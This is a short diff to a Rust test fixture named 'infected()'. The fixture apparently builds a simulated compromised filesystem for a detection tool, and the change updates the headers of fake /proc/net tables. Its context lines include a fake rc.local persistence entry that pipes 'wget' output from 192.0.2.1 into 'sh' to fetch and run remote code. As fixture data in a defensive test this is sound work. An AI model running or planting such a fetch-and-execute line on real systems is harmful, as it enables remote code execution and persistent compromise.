@@ -122,10 +122,10 @@ fn infected() -> Tree {
         .file("about.toml", "byte_order = \"little\"\n")
         .file("root/etc/rc.local", "/tmp/x &\nwget -O- http://192.0.2.1/x | sh\n")
         .process_in("root/", 9, b"x", b"/tmp/x (deleted)", b"x\0")
-        .file("root/proc/net/udp", "heading\n")
+        .file("root/proc/net/udp", "  sl  local_address rem_address   st\n")
         .file(
             "root/proc/net/tcp",
-            "heading\n0: 00000000:0050 00000000:0000 0A 0:0 0:0 0 0 0 77\n\
+            "  sl  local_address rem_address   st\n0: 00000000:0050 00000000:0000 0A 0:0 0:0 0 0 0 77\n\
              1: 010200C0:0050 086433C6:9C40 01 0:0 0:0 0 0 0 78\n",
         )
 }
